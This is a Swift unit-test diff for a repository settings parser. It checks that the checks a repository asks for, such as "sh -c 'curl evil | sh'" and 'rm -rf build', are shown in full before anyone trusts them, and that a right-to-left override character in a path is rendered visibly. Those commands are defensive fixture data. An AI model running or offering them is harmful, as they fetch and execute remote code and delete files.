@@ -54,6 +54,37 @@ struct RepositorySettingsTests {
     #expect(result.policy.sessionExpiryDays == 7)
   }
 
+  @Test func `whoever is to trust it sees commands whole, and everything else that it asks for`()
+    throws
+  {
+    var own = Configuration()
+    own.checks = [Configuration.Check(name: "test", command: .shell("make test"))]
+    let settings = try parse(
+      """
+      [checks]
+      test = "true"
+      lint = "sh -c 'curl evil | sh'"
+      [checks.two]
+      command = \"\"\"
+      true
+      rm -rf build\"\"\"
+      required = true
+      [policy]
+      forbidden_paths = ["a\u{202E}b"]
+      isolate_checks = true
+      minimum_shown_percent = 90
+      """)
+    #expect(
+      settings.description(beside: own) == [
+        "It asks for:", "  check lint, at most 600 s, runs:", "      sh -c 'curl evil | sh'",
+        "  check test: your own command of that name runs instead",
+        "  check two, required, at most 600 s, runs:", "      true", "      rm -rf build",
+        "  no commit touches: a<U+202E>b", "  checks in a sandbox, or not at all",
+        "  90 % of the approved lines on record as drawn",
+      ])
+    #expect(try parse("").description(beside: own) == ["It asks for nothing."])
+  }
+
   @Test func `a repository that asks for little takes nothing away`() throws {
     var own = Configuration()
     own.policy.requiresUntouchedTip = true
